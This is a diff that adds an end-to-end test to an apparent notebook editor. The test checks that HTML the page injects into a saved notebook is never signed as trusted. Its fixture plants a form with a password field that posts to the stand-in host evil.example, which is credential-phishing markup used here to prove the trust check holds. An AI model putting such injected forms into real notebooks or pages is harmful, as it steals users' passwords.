@@ -145,3 +145,27 @@ test('a notebook from elsewhere shows its stored HTML as text until trusted in a
   app = await open(ws);
   assert.deepEqual(await shown(), { text: false, html: true, banner: false });
 });
+
+test('the page cannot sign a notebook: HTML no kernel here produced saves untrusted, whatever the page says', async () => {
+  const { invoke, Keys } = await import('./webdriver.mjs');
+  const { readFileSync } = await import('node:fs');
+  const stamp = Date.now();
+  const ws = workspace({ 'test.ipynb': notebook(`from IPython.display import HTML\ndisplay(HTML('<b id="made">made ${stamp}</b>'))`) });
+  const app = await open(ws);
+  await app.press(Keys.Shift, Keys.Enter);
+  await app.until('the output', async () => app.execute('return document.querySelector(".cell .outputs b")?.textContent ?? "";').then((t) => t === `made ${stamp}`), 60000);
+  await app.press(Keys.Control, 's');
+  const file = join(ws, 'test.ipynb');
+  const saved = await app.until('the save', () => {
+    const text = readFileSync(file, 'utf8');
+    return text.includes(`made ${stamp}`) ? text : null;
+  });
+  assert.equal(await invoke(app, 'notebook_trusted', { content: saved }), true, 'what a kernel here produced opens trusted');
+  // A page that went wrong saves the same notebook with a form of its own in the output
+  // and says every output in it is trusted: the app does not sign it.
+  const planted = saved.replace(`<b id=\\"made\\">made ${stamp}</b>`, `<form action=\\"https://evil.example\\"><input name=pw></form>${stamp}`);
+  assert.notEqual(planted, saved);
+  await invoke(app, 'save_notebook', { path: join(ws, 'planted.ipynb'), content: planted, trusted: true });
+  assert.equal(readFileSync(join(ws, 'planted.ipynb'), 'utf8'), planted, 'saved as asked');
+  assert.equal(await invoke(app, 'notebook_trusted', { content: planted }), false, 'the page signed a notebook');
+});
